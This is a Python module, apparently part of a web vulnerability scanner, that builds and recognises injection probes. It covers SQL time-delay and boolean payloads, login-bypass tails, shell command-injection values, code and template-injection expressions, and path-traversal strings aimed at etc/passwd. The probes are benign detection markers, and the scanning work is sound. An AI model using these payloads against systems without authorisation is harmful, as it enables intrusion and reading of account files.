"""Values that an interpreter reads as code, and what shows that it did.

Every attack has a twin that is read alike where the input is data, so that a difference between
the two means something. Nothing here sends anything.
"""

from __future__ import annotations

import html
import json
import re
from dataclasses import dataclass
from typing import TYPE_CHECKING
from urllib.parse import quote, quote_plus


if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator


# --- what an answer says beside the value that was sent ------------------------------------------


def without(text: str, *sent: str) -> str:
    """An answer without the values that were sent, however they are encoded; numbers made alike.

    Numbers and identifiers change from answer to answer (times, ids of requests), so they are
    not what tells two answers apart.
    """
    for value in sent:
        for spelled in _spellings(value):
            text = text.replace(spelled, "")
    return _VARYING.sub("#", text)


_VARYING = re.compile(
    r"\b[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}\b|\b(?=[a-z]*\d)[0-9a-f]{12,}\b"
    r"|\d{4}-\d\d-\d\d[T ][\d:.]+(?:Z|[+-]\d\d:?\d\d)?|readiness[0-9a-f]{12}"
    r"|\b\d+\.\d+\b|\b\d{10,}\b",
    re.IGNORECASE,
)


def _spellings(sent: str) -> list[str]:
    """How a value may stand in an answer, the longest first."""
    found = {
        sent,
        html.escape(sent),
        html.escape(sent, quote=False),
        html.escape(sent).replace("&#x27;", "&#39;").replace("&quot;", "&#34;"),
        json.dumps(sent)[1:-1],
        json.dumps(sent, ensure_ascii=False)[1:-1],
        quote(sent),
        quote(sent, safe=""),
        quote_plus(sent),
        sent.replace("'", "''"),
        sent.replace("'", "\\'").replace('"', '\\"'),
        sent.replace("'", r"\u0027").replace('"', r"\u0022"),
        repr(sent)[1:-1],
        sent.strip(),
        sent.lower(),
        sent.upper(),
    }
    return sorted((each for each in found if each), key=len, reverse=True)


# --- SQL -----------------------------------------------------------------------------------------

ODD, EVEN = "'\"", "''\"\""
"""Quotes of both kinds, unpaired and paired: where a text is not quoted as it should be, the first
breaks the statement and the second does not, within quotes of either kind."""

_ERRORS = tuple(
    (name, re.compile(pattern, re.IGNORECASE))
    for name, pattern in (
        ("SQLite", r"(?<!fts5: )(?:near \"[^\"]*\": syntax error|unrecognized token: \")"),
        ("SQLite", r"(?:Error|ERROR)\W+incomplete input"),
        ("PostgreSQL", r"unterminated quoted (?:string|identifier) at or near"),
        ("PostgreSQL", r"syntax error at or near \""),
        ("MySQL", r"You have an error in your SQL syntax"),
        ("MySQL", r"the manual that (?:corresponds to|fits) your (?:MySQL|MariaDB)"),
        ("SQL Server", r"Unclosed quotation mark (?:after|before) the character string"),
        ("SQL Server", r"Incorrect syntax near"),
        ("Oracle", r"ORA-(?:00933|00921|00936|01756|00907|01789)"),
        ("H2", r"Syntax error in SQL statement"),
    )
)


def sql_errors(text: str) -> set[tuple[str, str]]:
    """Complaints of databases about the syntax of a statement: which database, and its words.

    No names of exceptions: a text that is no query of a full-text search raises the same ones.
    """
    plain = html.unescape(text).replace('\\"', '"').replace("\\'", "'")
    return {
        (name, found[0].rstrip(': "'))
        for name, pattern in _ERRORS
        for found in pattern.finditer(plain)
    }


def condition(start: str, word: str, *, holds: bool, quoted: bool, turn: int = 0) -> str:
    """A value that adds a condition to the statement around it.

    Args:
        start: the valid value.
        word: ``AND`` or ``OR``.
        holds: the condition is true.
        quoted: the value stands within single quotes.
        turn: which numbers are compared, so that no two rounds send the same.
    """
    left, right = _FACTORS[turn % len(_FACTORS)]
    compared = f"{left}*{right}={left * right + (0 if holds else 1)}"
    if not quoted:
        return f"{start} {word} {compared}"
    end = "1" if word == "AND" else "2"
    return f"{start}' {word} {compared} {word} '1' LIKE '{end}"


_FACTORS = ((17, 23), (19, 29), (13, 31), (11, 37))
"""Arithmetic, since a filter may refuse ``1=1`` and let ``1=2`` pass."""


@dataclass(frozen=True)
class Delay:
    """Makes one database wait."""

    database: str
    quoted: str
    """``{start}``, and ``{long}`` in place of how long."""
    bare: str
    """The same for a number."""
    counts: bool = False
    """``{long}`` is an amount of work, and no seconds."""
    cuts_off: bool = False
    """What follows the value in the statement is lost."""

    def value(self, start: str, long: float, *, quoted: bool) -> str:
        """What to send; zero is its twin, which waits for nothing."""
        pattern = self.quoted if quoted else self.bare
        told = str(max(1, int(long))) if self.counts else f"{long:g}"
        return pattern.replace("{start}", start).replace("{long}", told)


_COUNTING = (
    "(WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT {long}) SELECT %s FROM c)"
)
DELAYS = (
    Delay(
        "SQLite",
        "{start}'||" + _COUNTING % "substr(count(x),1,0)" + "||'",
        "{start}-" + _COUNTING % "min(0,count(x))",
        counts=True,
    ),
    Delay(
        "PostgreSQL",
        "{start}'||(SELECT '' FROM pg_sleep({long}))||'",
        "{start}-(SELECT 0 FROM pg_sleep({long}))",
    ),
    Delay(
        "MySQL",
        "{start}'-(SELECT * FROM (SELECT SLEEP({long}))a)-'",
        "{start}-(SELECT * FROM (SELECT SLEEP({long}))a)",
    ),
    Delay(
        "SQL Server",
        "{start}';WAITFOR DELAY '0:0:{long}'--",
        "{start};WAITFOR DELAY '0:0:{long}'--",
        cuts_off=True,
    ),
)

_NAMES_OF_DATABASES = {
    "SQLite": re.compile(r"sqlite", re.IGNORECASE),
    "PostgreSQL": re.compile(r"postgres|psycopg|asyncpg|\bpgx?\b|npgsql", re.IGNORECASE),
    "MySQL": re.compile(r"mysql|mariadb", re.IGNORECASE),
    "SQL Server": re.compile(r"mssql|sqlserver|pyodbc|\btedious\b|sqlclient", re.IGNORECASE),
}


def databases_named(texts: Iterable[str]) -> set[str]:
    """Databases that manifests, URLs or sources speak of."""
    held = list(texts)
    return {name for name, pattern in _NAMES_OF_DATABASES.items() if any(map(pattern.search, held))}


STATEMENT = "SELECT 7919*7907"
"""A whole statement; where it is run as it comes, running statements is what the input is for."""
STATEMENT_GIVES = str(7919 * 7907)

LOGIN_TAILS = ("' -- ", "'/*", "' #")
"""After one's own user name: what leaves the password out of the statement."""


# --- commands and code ---------------------------------------------------------------------------

CANARIES = ("readiness canary", "readiness second canary")


def checksum(word: str) -> str:
    """What ``echo word | cksum`` prints first: the CRC of POSIX, with the length at its end.

    Nobody works it out in their head, a language model included, and it stands in no page.
    """
    data = f"{word}\n".encode()
    length = len(data)
    while length:
        data += bytes([length & 0xFF])
        length >>= 8
    crc = 0
    for byte in data:
        crc ^= byte << 24
        for _ in range(8):
            crc = ((crc << 1) ^ (0x04C11DB7 if crc & 0x80000000 else 0)) & 0xFFFFFFFF
    return str(~crc & 0xFFFFFFFF)


def commands(start: str, word: str, seconds: float) -> Iterator[str]:
    """Values that run a command in a POSIX shell, bare or within quotes of either kind.

    Each prints the checksum of a word and waits: output that nobody sees shows by the time.
    """
    run = f"(echo {word}|cksum;sleep {seconds:g})"
    # A pipe rather than a semicolon: within SQL the first is an error, the second ends a change
    # before its WHERE.
    yield f"{start}|{run}#${run}"
    yield f"{start}'|{run}#"


def inert_command(start: str, word: str) -> str:
    """The twin: the same words, and nothing that a shell would run."""
    return f"{start} echo {word} cksum sleep"


@dataclass(frozen=True)
class Code:
    """An expression in a programming language."""

    language: str
    suffixes: tuple[str, ...]
    """Of source files that say that it is spoken here."""
    pattern: str

    def value(self, word: str) -> str:
        """What to send in place of the whole value."""
        return self.pattern.replace("{word}", word)

    def gives(self, word: str) -> str:
        """What it prints where it is run."""
        import zlib

        if self.language == "JavaScript":
            total = 7
            for letter in word:
                total = (total * 31 + ord(letter)) % 99_999_989
            return str(total)
        return str(zlib.crc32(word.encode()))


CODE = (
    Code("Python", (".py",), "__import__('zlib').crc32(b'{word}')"),
    Code(
        "JavaScript",
        (".js", ".mjs", ".cjs", ".ts"),
        "[...'{word}'].reduce((a,c)=>(a*31+c.charCodeAt(0))%99999989,7)",
    ),
    Code("PHP", (".php",), "print(crc32('{word}'));"),
    Code("Ruby", (".rb",), "require('zlib')&&Zlib.crc32('{word}')||Zlib.crc32('{word}')"),
)


# --- files ---------------------------------------------------------------------------------------

_UP = 10
ACCOUNTS_FILE = "etc/passwd"
MISSING = "etc/readiness-is-missing"


def traversals(start: str, name: str, *, path: bool, thorough: bool) -> Iterator[str]:
    """Values that lead to a file outside of the folder that was meant.

    Args:
        start: the valid value.
        name: of the file, from the root.
        path: it is a part of a URL's path, where the value is sent as it is, encoded.
        thorough: also those that get around a filter.
    """
    if path:
        yield quote("/".join([".."] * _UP + [name]), safe="")
        if thorough:
            yield quote(f"/{name}", safe="")
            yield "/".join([".."] * _UP + [name])
            yield quote(quote("/".join([".."] * _UP + [name]), safe=""), safe="")
        return
    yield "/" + "../" * _UP + name
    if thorough:
        yield "../" * _UP + name
        yield "....//" * _UP + name
        yield quote("../" * _UP + name, safe="")
        yield f"{start}/" + "../" * _UP + name
        yield f"file:///{name}"


_ACCOUNT = re.compile(r"\b[a-z_][\w.-]*:[x*!]?:\d+:\d+:[^:\n\\<]*:/[^:\n\\<]*:[\w/.-]*")
_ROOT = re.compile(r"\broot:[^:\n]*:0:0:")


def accounts(text: str) -> tuple[str, ...]:
    """Lines of ``/etc/passwd`` in an answer, root's among them; none where that is missing."""
    plain = html.unescape(text).replace("\\/", "/").replace("\\n", "\n")
    return tuple(_ACCOUNT.findall(plain)) if _ROOT.search(plain) else ()


NAMES_FILE = re.compile(
    r"file|path|page|doc|folder|dir|include|load|download|src|image|img|theme|lang|log|report"
    r"|template|view|module|resource|attachment|avatar|name|key",
    re.IGNORECASE,
)
"""Names of inputs that may be about a file."""


# --- templates -----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Syntax:
    """How a template engine is told to work something out."""

    engines: str
    before: str
    after: str
    factors: tuple[int, int]

    def value(self, turn: int = 0) -> str:
        """The expression, other numbers each turn."""
        left, right = self._numbers(turn)
        return f"{self.before}{left}*{right}{self.after}"

    def gives(self, turn: int = 0) -> str:
        """What it becomes where it is worked out."""
        left, right = self._numbers(turn)
        return str(left * right)

    def is_worked_out(self, text: str, turn: int = 0) -> bool:
        """Whether an answer holds the result, with separators between thousands or without."""
        plain = re.sub(r"(?<=\d)[,.\u00a0\u202f' ](?=\d{3})", "", text)
        return self.gives(turn) in plain

    def bare(self, turn: int = 0) -> str:
        """The twin: the same sum, told to nobody. Who answers it adds up for a living."""
        left, right = self._numbers(turn)
        return f"{left}*{right}"

    def _numbers(self, turn: int) -> tuple[int, int]:
        left, right = self.factors
        return left + 2 * turn, right + 6 * turn


FIRST_TEMPLATES = (
    Syntax("Jinja2, Twig, Nunjucks or Liquid", "{{", "}}", (41381, 71713)),
    Syntax("FreeMarker, Mako or an expression language", "${", "}", (42283, 72817)),
    Syntax("Pug, Thymeleaf or Ruby", "#{", "}", (43391, 73709)),
    Syntax("Razor", "@(", ")", (44389, 74821)),
)
MORE_TEMPLATES = (
    Syntax("ERB or EJS", "<%= ", " %>", (45587, 75707)),
    Syntax("Velocity", "#set($r=", ")$r", (46591, 76801)),
    Syntax("Smarty", "{", "}", (47591, 77813)),
)
"""Apart from the first: what one engine works out is an error to another."""


def products(syntaxes: Iterable[Syntax], text: str) -> Iterator[Syntax]:
    """Those whose result stands in an answer."""
    return (each for each in syntaxes if each.is_worked_out(text))
